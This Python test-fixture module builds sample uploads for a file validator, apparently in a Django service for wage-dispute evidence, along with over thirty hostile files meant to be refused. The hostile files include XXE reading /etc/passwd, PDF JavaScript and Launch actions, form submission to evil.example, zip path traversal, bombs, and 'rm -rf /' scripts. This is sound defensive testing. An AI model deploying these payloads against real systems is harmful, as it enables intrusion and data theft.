"""Small real files of each accepted type, and hostile ones (rule R11), built in memory."""

from __future__ import annotations

import io
import random
import struct
import warnings
import zipfile
import zlib

from django.core.files.uploadedfile import SimpleUploadedFile

CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    "</Types>"
)
RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/officeDocument" Target="word/document.xml"/></Relationships>'
)
DOCUMENT = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
    "<w:body><w:p><w:r><w:t>劳动合同 甲方：云南某建筑劳务有限公司</w:t></w:r></w:p></w:body>"
    "</w:document>"
)
WORKBOOK = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
    '<sheets><sheet name="工资表" sheetId="1"/></sheets></workbook>'
)
XXE = (
    '<?xml version="1.0" encoding="UTF-8"?>\n'
    '<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    "<Types>&xxe;</Types>"
)


def zip_bytes(members: dict[str, bytes | str]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression=zipfile.ZIP_DEFLATED) as z:
        for name, data in members.items():
            z.writestr(name, data)
    return buf.getvalue()


def docx() -> bytes:
    return docx_with({})


def docx_with(members: dict[str, bytes | str], *, replace: dict | None = None) -> bytes:
    base = {
        "[Content_Types].xml": CONTENT_TYPES,
        "_rels/.rels": RELS,
        "word/document.xml": DOCUMENT,
    }
    base.update(replace or {})
    base.update(members)
    return zip_bytes(base)


def xlsx(members: dict[str, bytes | str] | None = None) -> bytes:
    base = {
        "[Content_Types].xml": CONTENT_TYPES,
        "_rels/.rels": RELS.replace("word/document.xml", "xl/workbook.xml"),
        "xl/workbook.xml": WORKBOOK,
        "xl/worksheets/sheet1.xml": "<worksheet><sheetData/></worksheet>",
    }
    base.update(members or {})
    return zip_bytes(base)


def png() -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">I", len(data))
            + kind
            + data
            + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)
        )

    ihdr = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", ihdr)
        + chunk(b"IDAT", zlib.compress(b"\x00\xff\x00\x00"))
        + chunk(b"IEND", b"")
    )


# --- PDF, written byte by byte (offsets and cross-references computed, so pypdf reads them) -----
def pdf_stream(data: bytes, entries: bytes = b"", *, compress: bool = False) -> bytes:
    """A stream object's body: its dictionary (with the real /Length) and its data."""
    if compress:
        data = zlib.compress(data, 1)  # fast, even for the bomb
        entries += b" /Filter /FlateDecode"
    return b"<< /Length %d%s >>\nstream\n%s\nendstream" % (len(data), entries, data)


PAGE_TEXT = b"BT /F1 12 Tf 72 770 Td (Wage IOU, 12000 yuan) Tj ET"


def pdf_objects(
    *, catalog: bytes = b"", page: bytes = b"", extra: dict[int, bytes] | None = None
) -> dict[int, bytes]:
    """An ordinary one-page document as numbered objects; ``catalog`` and ``page`` add entries to
    those dictionaries, ``extra`` adds (or replaces) objects from 6 on."""
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R" + catalog + b" >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R"
        b" /Resources << /Font << /F1 5 0 R >> >>" + page + b" >>",
        4: pdf_stream(PAGE_TEXT),
        5: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    }
    objects.update(extra or {})
    return objects


def _xref_table(offsets: dict[int, int], size: int) -> bytes:
    rows = [b"0000000000 65535 f \n"]
    for number in range(1, size):
        at = offsets.get(number)
        rows.append(b"%010d 00000 n \n" % at if at is not None else b"0000000000 65535 f \n")
    return b"xref\n0 %d\n" % size + b"".join(rows)


def _write_objects(out: bytearray, objects: dict[int, bytes]) -> dict[int, int]:
    offsets = {}
    for number in sorted(objects):
        offsets[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, objects[number])
    return offsets


def pdf_file(objects: dict[int, bytes] | None = None, *, version: bytes = b"1.4") -> bytes:
    """A classic PDF (cross-reference table) of these objects; object 1 is the catalogue."""
    objects = objects if objects is not None else pdf_objects()
    out = bytearray(b"%PDF-" + version + b"\n%\xe2\xe3\xcf\xd3\n")
    offsets = _write_objects(out, objects)
    size = max(objects) + 1
    start = len(out)
    out += _xref_table(offsets, size)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (size, start)
    return bytes(out)


def pdf_update(base: bytes, objects: dict[int, bytes]) -> bytes:
    """``base`` with an incremental update appended: new or replaced objects, a cross-reference
    section of their own and a trailer pointing back to the previous one (/Prev)."""
    previous = int(base.rsplit(b"startxref", 1)[1].split()[0])
    size = int(base.rsplit(b"/Size", 1)[1].split()[0])
    out = bytearray(base)
    offsets = _write_objects(out, objects)
    size = max(size, max(objects) + 1)
    start = len(out)
    out += b"xref\n"
    for number in sorted(offsets):
        out += b"%d 1\n%010d 00000 n \n" % (number, offsets[number])
    out += b"trailer\n<< /Size %d /Root 1 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (
        size,
        previous,
        start,
    )
    return bytes(out)


def pdf_compressed(
    plain: dict[int, bytes], packed: dict[int, bytes], *, stream_data: bytes | None = None
) -> bytes:
    """A PDF 1.5 file: ``packed`` objects inside one compressed object stream (/ObjStm), the rest
    plain, and a compressed cross-reference stream instead of a table. ``stream_data`` replaces
    the object stream's content (a decompression bomb)."""
    out = bytearray(b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n")
    offsets = _write_objects(out, plain)
    objstm = max([*plain, *packed]) + 1
    header, body = b"", b""
    for number in sorted(packed):
        header += b"%d %d " % (number, len(body))
        body += packed[number] + b"\n"
    data = header + body if stream_data is None else stream_data
    entries = b" /Type /ObjStm /N %d /First %d" % (len(packed), len(header))
    offsets.update(_write_objects(out, {objstm: pdf_stream(data, entries, compress=True)}))
    xref = objstm + 1
    offsets[xref] = len(out)
    rows = [b"\x00" + (0).to_bytes(4, "big") + (65535).to_bytes(2, "big")]
    order = {number: index for index, number in enumerate(sorted(packed))}
    for number in range(1, xref + 1):
        if number in offsets:
            rows.append(b"\x01" + offsets[number].to_bytes(4, "big") + b"\x00\x00")
        elif number in packed:
            rows.append(b"\x02" + objstm.to_bytes(4, "big") + order[number].to_bytes(2, "big"))
        else:
            rows.append(b"\x00" + (0).to_bytes(4, "big") + (65535).to_bytes(2, "big"))
    entries = b" /Type /XRef /Size %d /W [1 4 2] /Root 1 0 R" % (xref + 1)
    out += b"%d 0 obj\n%s\nendobj\n" % (xref, pdf_stream(b"".join(rows), entries, compress=True))
    out += b"startxref\n%d\n%%%%EOF\n" % offsets[xref]
    return bytes(out)


def pdf_padded(size: int) -> bytes:
    """An ordinary PDF of about ``size`` bytes: the page carries an unused image of random-looking
    bytes (the kind of data a scan holds)."""
    image = pdf_stream(
        random.Random(size).randbytes(size),
        b" /Type /XObject /Subtype /Image /Width 1 /Height %d /BitsPerComponent 8"
        b" /ColorSpace /DeviceGray" % size,
    )
    return pdf_file(pdf_objects(extra={6: image}))


PDF = pdf_file()
JPEG = (
    b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
    + bytes(range(256)) * 4
    + b"\xff\xd9"
)
GIF = b"GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff!\xf9\x04\x01\x00\x00\x00\x00,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;"
WEBP = b"RIFF\x1a\x00\x00\x00WEBPVP8L\x0d\x00\x00\x00\x2f\x00\x00\x00\x10\x07\x10\x11\x11\x88\x88\xfe\x07\x00"
TIFF = b"II*\x00\x08\x00\x00\x00" + b"\x00" * 64
WAV = (
    b"RIFF\x24\x00\x00\x00WAVEfmt \x10\x00\x00\x00\x01\x00\x01\x00\x40\x1f\x00\x00"
    b"\x80\x3e\x00\x00\x02\x00\x10\x00data\x00\x00\x00\x00"
)
MP3_ID3 = b"ID3\x03\x00\x00\x00\x00\x00\x0a" + b"\x00" * 10 + b"\xff\xfb\x90\x64" + b"\x00" * 413
MP3_FRAME = b"\xff\xfb\x90\x64" + b"\x00" * 413 + b"\xff\xfb\x90\x64" + b"\x00" * 413
M4A = (
    b"\x00\x00\x00\x1cftypM4A \x00\x00\x00\x00M4A mp42isom" + b"\x00\x00\x00\x08free" + b"\x00" * 32
)
MP4 = b"\x00\x00\x00\x18ftypmp42\x00\x00\x00\x00mp42isom" + b"\x00\x00\x00\x08free"
HEIC = b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic" + b"\x00" * 16
AMR = b"#!AMR\n" + b"\x3c" + b"\x00" * 31
TEXT_UTF8 = "2026年3月工资未发放，老板说下个月一起结。\n聊天记录截至 2026-11-01。\n".encode()
TEXT_GB18030 = "欠条：今欠王建国工资人民币壹万贰仟元整。\n".encode("gb18030")
TEXT_BOM = b"\xef\xbb\xbf" + "考勤记录\n".encode()


def ole2(*names: str, body: bytes = b"") -> bytes:
    """An OLE2 (compound file) header and directory entries with these names (enough for the
    sniffer, which looks for the main stream's directory entry)."""
    header = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504
    entries = b""
    for name in ("Root Entry", *names):
        raw = name.encode("utf-16-le") + b"\x00\x00"
        entries += raw.ljust(64, b"\x00") + struct.pack("<H", len(raw)) + b"\x00" * 62
    return header + entries + body


DOC = ole2("WordDocument", "1Table", "\x05SummaryInformation")
XLS = ole2("Workbook", "\x05SummaryInformation")

ACCEPTED = {
    "pdf": (PDF, "application/pdf", "pdf"),
    "jpeg": (JPEG, "image/jpeg", "jpg"),
    "png": (png(), "image/png", "png"),
    "gif": (GIF, "image/gif", "gif"),
    "webp": (WEBP, "image/webp", "webp"),
    "tiff": (TIFF, "image/tiff", "tif"),
    "heic": (HEIC, "image/heic", "heic"),
    "wav": (WAV, "audio/wav", "wav"),
    "mp3-id3": (MP3_ID3, "audio/mpeg", "mp3"),
    "mp3-frame": (MP3_FRAME, "audio/mpeg", "mp3"),
    "m4a": (M4A, "audio/mp4", "m4a"),
    "mp4": (MP4, "video/mp4", "mp4"),
    "amr": (AMR, "audio/amr", "amr"),
    "docx": (
        docx(),
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
        "docx",
    ),
    "xlsx": (
        xlsx(),
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
        "xlsx",
    ),
    "doc": (DOC, "application/msword", "doc"),
    "xls": (XLS, "application/vnd.ms-excel", "xls"),
    "text-utf8": (TEXT_UTF8, "text/plain; charset=utf-8", "txt"),
    "text-gb18030": (TEXT_GB18030, "text/plain; charset=gb18030", "txt"),
    "text-bom": (TEXT_BOM, "text/plain; charset=utf-8", "txt"),
}


def _zip_lying_about_size() -> bytes:
    """A member whose headers declare 10 bytes but which inflates to 5 MB (zipfile stops at the
    declared size, and the checksum then fails)."""
    data = bytearray(docx_with({"word/media/big.bin": b"\x00" * (5 * 1024 * 1024)}))
    real = struct.pack("<I", 5 * 1024 * 1024)
    fake = struct.pack("<I", 10)
    return bytes(data.replace(real, fake))


def _encrypted_member() -> bytes:
    data = bytearray(docx())
    # set the "encrypted" flag bit in every local and central header
    for sig, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = 0
        while (at := data.find(sig, start)) >= 0:
            data[at + offset] |= 0x01
            start = at + 4
    return bytes(data)


def _duplicate_member() -> bytes:
    buf = io.BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(buf, "w") as z:
        warnings.simplefilter("ignore")  # "Duplicate name" is the point
        z.writestr("[Content_Types].xml", CONTENT_TYPES)
        z.writestr("word/document.xml", DOCUMENT)
        z.writestr("word/document.xml", "<w:document/>")
    return buf.getvalue()


JS_ACTION = b"<< /S /JavaScript /JS (app.alert(1)) >>"
BOMB_BYTES = 48 * 1024 * 1024  # unpacked size of the bomb's object stream (over the 32 MB cap)


def _one_page(**parts) -> bytes:
    return pdf_file(pdf_objects(**parts))


def _packed_javascript(*, referenced: bool) -> bytes:
    """JavaScript inside a compressed object stream (PDF 1.5), reached from the catalogue's
    /OpenAction, or lying there with nothing pointing to it."""
    objects = pdf_objects(catalog=b" /OpenAction 6 0 R" if referenced else b"")
    plain = {n: objects[n] for n in (1, 4)}
    packed = {2: objects[2], 3: objects[3], 5: objects[5], 6: JS_ACTION}
    return pdf_compressed(plain, packed)


def _decompression_bomb() -> bytes:
    """An object stream of a few dozen KB that unpacks to 48 MB."""
    objects = pdf_objects()
    data = b"6 0 " + b" " * BOMB_BYTES + b"<< >>"
    return pdf_compressed({n: objects[n] for n in (1, 2, 3, 4, 5)}, {6: b"<< >>"}, stream_data=data)


def _password_protected() -> bytes:
    import pypdf

    writer = pypdf.PdfWriter(clone_from=io.BytesIO(PDF))
    writer.encrypt(user_password="1234", owner_password="owner", algorithm="AES-128")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def hostile_pdfs() -> list[tuple[str, str, bytes, str]]:
    """PDFs that run script, start programs, carry files or cannot be read (rule R11, issue 12
    item 15): (label, file name, bytes, refusal code)."""
    return [
        (
            "PDF JavaScript with hex-escaped names",
            "escaped.pdf",
            _one_page(catalog=b" /OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>"),
            "active_content",
        ),
        (
            "PDF Launch with a hex-escaped name",
            "escaped-launch.pdf",
            _one_page(catalog=b" /OpenAction << /S /L#61unch /F (cmd.exe) >>"),
            "pdf_action",
        ),
        (
            "PDF JavaScript in a compressed object stream",
            "objstm.pdf",
            _packed_javascript(referenced=True),
            "active_content",
        ),
        (
            "PDF JavaScript in an object stream nothing points to",
            "orphan.pdf",
            _packed_javascript(referenced=False),
            "active_content",
        ),
        (
            "PDF OpenAction JavaScript in a separate object",
            "open.pdf",
            _one_page(catalog=b" /OpenAction 6 0 R", extra={6: JS_ACTION}),
            "active_content",
        ),
        (
            "PDF document-level JavaScript (names tree)",
            "names.pdf",
            _one_page(
                catalog=b" /Names << /JavaScript << /Names [(init) 6 0 R] >> >>",
                extra={6: JS_ACTION},
            ),
            "active_content",
        ),
        (
            "PDF annotation with /AA JavaScript",
            "annot-aa.pdf",
            _one_page(
                page=b" /Annots [6 0 R]",
                extra={
                    6: b"<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] /AA << /E 7 0 R >> >>",
                    7: b"<< /S /JavaScript /JS 8 0 R >>",
                    8: pdf_stream(b"app.launchURL('http://evil.example/');"),
                },
            ),
            "active_content",
        ),
        (
            "PDF form field with /AA JavaScript",
            "field-aa.pdf",
            _one_page(
                catalog=b" /AcroForm << /Fields [6 0 R] >>",
                page=b" /Annots [6 0 R]",
                extra={
                    6: b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (name) /Rect [0 0 100 20]"
                    b" /P 3 0 R /AA << /K << /S /JavaScript /JS (event.value=1) >> >> >>"
                },
            ),
            "active_content",
        ),
        (
            "PDF page /AA launching a program",
            "page-aa.pdf",
            _one_page(page=b" /AA << /O << /S /Launch /Win << /F (cmd.exe) >> >> >>"),
            "pdf_action",
        ),
        (
            "PDF embedded file",
            "embedded.pdf",
            _one_page(
                catalog=b" /Names << /EmbeddedFiles << /Names [(invoice.exe) 6 0 R] >> >>",
                extra={
                    6: b"<< /Type /Filespec /F (invoice.exe) /EF << /F 7 0 R >> >>",
                    7: pdf_stream(b"MZ\x90\x00", b" /Type /EmbeddedFile"),
                },
            ),
            "embedded_file",
        ),
        (
            "PDF file attachment annotation",
            "attach.pdf",
            _one_page(
                page=b" /Annots [6 0 R]",
                extra={
                    6: b"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 20 20]"
                    b" /FS << /Type /Filespec /F (a.exe) >> >>"
                },
            ),
            "embedded_file",
        ),
        (
            "PDF XFA form",
            "xfa.pdf",
            _one_page(
                catalog=b" /AcroForm << /Fields [] /XFA 6 0 R >>",
                extra={6: pdf_stream(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'/>")},
            ),
            "active_content",
        ),
        (
            "PDF form that submits data",
            "submit.pdf",
            _one_page(
                page=b" /Annots [6 0 R]",
                extra={
                    6: b"<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] /A << /S /SubmitForm"
                    b" /F << /FS /URL /F (http://evil.example/collect) >> >> >>"
                },
            ),
            "pdf_action",
        ),
        (
            "PDF that imports form data",
            "import.pdf",
            _one_page(catalog=b" /OpenAction << /S /ImportData /F (data.fdf) >>"),
            "pdf_action",
        ),
        (
            "PDF go-to-embedded action",
            "gotoe.pdf",
            _one_page(catalog=b" /OpenAction << /S /GoToE /T << /R /C /N (x) >> >>"),
            "embedded_file",
        ),
        (
            "PDF rich media (Flash) annotation",
            "flash.pdf",
            _one_page(
                page=b" /Annots [6 0 R]",
                extra={6: b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 100 100] >>"},
            ),
            "active_content",
        ),
        (
            "PDF link to a javascript: URI",
            "uri.pdf",
            _one_page(
                page=b" /Annots [6 0 R]",
                extra={
                    6: b"<< /Type /Annot /Subtype /Link /Rect [0 0 100 100]"
                    b" /A << /S /URI /URI (  JavaScript:alert(1)) >> >>"
                },
            ),
            "active_content",
        ),
        (
            "PDF JavaScript added by an incremental update",
            "update.pdf",
            pdf_update(
                PDF,
                {
                    1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R >>",
                    6: b"<< /S /J#61vaScript /J#53 (app.alert(1)) >>",
                },
            ),
            "active_content",
        ),
        (
            "PDF that is broken",
            "broken.pdf",
            b"%PDF-1.7\n" + b"1 0 obj << /Type" * 50,
            "unreadable",
        ),
        ("PDF cut short", "cut.pdf", PDF[: len(PDF) // 2], "unreadable"),
        ("PDF locked with a password", "locked.pdf", _password_protected(), "unreadable"),
        ("PDF decompression bomb", "bomb.pdf", _decompression_bomb(), "too_complex"),
    ]


# (label, file name, bytes, expected refusal code) — rule R11: at least 30 hostile files
HOSTILE = [
    ("empty", "empty.pdf", b"", "empty"),
    ("random bytes named .pdf", "合同.pdf", bytes(range(256)) * 8, "type"),
    ("no magic, named .jpg", "photo.jpg", b"\x00\x01\x02\x03" * 100, "type"),
    ("HTML named .pdf", "evidence.pdf", b"<html><body>hi</body></html>", "active_content"),
    (
        "HTML after blank lines",
        "page.txt",
        b"\n\n   <!DOCTYPE html><p>x</p>",
        "active_content",
    ),
    (
        "HTML with a UTF-8 BOM",
        "page.txt",
        b"\xef\xbb\xbf<html><script>alert(1)</script>",
        "active_content",
    ),
    (
        "SVG with script",
        "chart.png",
        b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
        "active_content",
    ),
    ("bare XML", "data.txt", b'<?xml version="1.0"?><a>1</a>', "active_content"),
    (
        "text with a script later on",
        "chat.txt",
        "聊天记录\n".encode() * 500 + b"<script>alert(1)</script>",
        "active_content",
    ),
    ("text with a javascript: link", "note.txt", b"click javascript:alert(1)", "active_content"),
    ("Windows program", "setup.pdf", b"MZ\x90\x00\x03" + b"\x00" * 200, "executable"),
    ("ELF program", "photo.jpg", b"\x7fELF\x02\x01\x01" + b"\x00" * 200, "executable"),
    ("Mach-O program", "doc.docx", b"\xcf\xfa\xed\xfe" + b"\x00" * 200, "executable"),
    ("shell script", "run.txt", b"#!/bin/sh\nrm -rf /\n", "executable"),
    ("WebAssembly", "a.txt", b"\x00asm\x01\x00\x00\x00", "executable"),
    (
        "zip bomb by ratio",
        "bomb.docx",
        docx_with({"word/media/zeros.bin": b"\x00" * (5 * 1024 * 1024)}),
        "zip_bomb",
    ),
    ("zip bomb lying about its size", "bomb2.docx", _zip_lying_about_size(), "archive"),
    (
        "too many members",
        "many.xlsx",
        xlsx({f"xl/m{i}.bin": b"" for i in range(1001)}),
        "zip_bomb",
    ),
    (
        "XXE in a .docx",
        "xxe.docx",
        docx_with({}, replace={"[Content_Types].xml": XXE}),
        "xml_entities",
    ),
    (
        "XXE in a .xlsx",
        "xxe.xlsx",
        xlsx(
            {
                "xl/workbook.xml": WORKBOOK.replace(
                    "<workbook", '<!DOCTYPE w [<!ENTITY e "x">]><workbook'
                )
            }
        ),
        "xml_entities",
    ),
    (
        "XXE hidden in UTF-16",
        "xxe16.xlsx",
        xlsx({"xl/sharedStrings.xml": XXE.replace("UTF-8", "UTF-16").encode("utf-16")}),
        "archive",
    ),
    (
        "XXE hidden in UTF-7",
        "xxe7.docx",
        docx_with(
            {"word/settings.xml": '<?xml version="1.0" encoding="UTF-7"?>+ADw-!DOCTYPE x+AD4-'}
        ),
        "archive",
    ),
    ("member path traversal", "trav.docx", docx_with({"../../evil.sh": "#!/bin/sh"}), "archive"),
    (
        "absolute member path",
        "abs.docx",
        docx_with({"/etc/cron.d/x": "* * * * * root x"}),
        "archive",
    ),
    ("backslash member path", "bs.xlsx", xlsx({"..\\..\\evil.bat": "del *"}), "archive"),
    ("drive-letter member path", "drive.xlsx", xlsx({"C:/Windows/evil.dll": "x"}), "archive"),
    ("encrypted member", "locked.docx", _encrypted_member(), "archive"),
    ("duplicate member", "dup.docx", _duplicate_member(), "archive"),
    ("plain ZIP archive", "archive.docx", zip_bytes({"readme.txt": "hi"}), "type"),
    (
        "Word with macros",
        "macro.docx",
        docx_with({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}),
        "macro",
    ),
    (
        "Word with a remote template",
        "template.docx",
        docx_with(
            {
                "word/_rels/settings.xml.rels": (
                    '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="x">'
                    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
                    'officeDocument/2006/relationships/attachedTemplate" '
                    'Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
                )
            }
        ),
        "macro",
    ),
    ("legacy Word with macros", "old.doc", ole2("WordDocument", "Macros", "VBA"), "macro"),
    ("legacy Excel with VBA", "old.xls", ole2("Workbook", "_VBA_PROJECT_CUR"), "macro"),
    ("OLE2 that is neither", "setup.doc", ole2("SummaryInformation", "Binary"), "type"),
    (
        "password-protected Office",
        "secret.docx",
        ole2("EncryptionInfo", "EncryptedPackage"),
        "archive",
    ),
    (
        "PDF polyglot with HTML",
        "poly.pdf",
        b"%PDF-1.4\n<html><script>alert(1)</script></html>\n%%EOF",
        "active_content",
    ),
    (
        "PDF with JavaScript",
        "js.pdf",
        PDF.replace(
            b"/Type /Catalog", b"/Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert(1)) >>"
        ),
        "active_content",
    ),
    (
        "PDF that launches a program",
        "launch.pdf",
        PDF.replace(b"/Type /Catalog", b"/OpenAction << /S /Launch /F (calc.exe) >>"),
        "pdf_action",
    ),
    (
        "JPEG polyglot with HTML",
        "poly.jpg",
        b"\xff\xd8\xff\xfe\x00\x30<html><body><script>alert(1)</script></body></html>" + JPEG[2:],
        "active_content",
    ),
    (
        "GIF polyglot with script",
        "poly.gif",
        b"GIF89a/*<script>alert(1)</script>*/" + GIF[6:],
        "active_content",
    ),
    (
        "PNG with SVG inside",
        "poly.png",
        png()[:33] + b"<svg onload=alert(1)>" + png()[33:],
        "active_content",
    ),
    ("NUL in text", "note.txt", b"hello\x00world", "type"),
    ("control characters in text", "note.txt", b"hello \x1b[31m world", "type"),
    ("neither UTF-8 nor GB18030", "note.txt", b"abc \x80\x80\x80 def", "encoding"),
    ("UTF-16 text", "note.txt", "工资 wages".encode("utf-16"), "encoding"),
    ("QuickTime movie", "clip.mp4", b"\x00\x00\x00\x14ftypqt  \x00\x00\x00\x00qt  ", "type"),
    ("RAR archive", "a.docx", b"Rar!\x1a\x07\x01\x00" + b"\x00" * 50, "type"),
    *hostile_pdfs(),
]


def upload(name: str, data: bytes, content_type: str = "application/pdf") -> SimpleUploadedFile:
    """An uploaded file whose browser-sent type is whatever the client claims."""
    return SimpleUploadedFile(name, data, content_type=content_type)
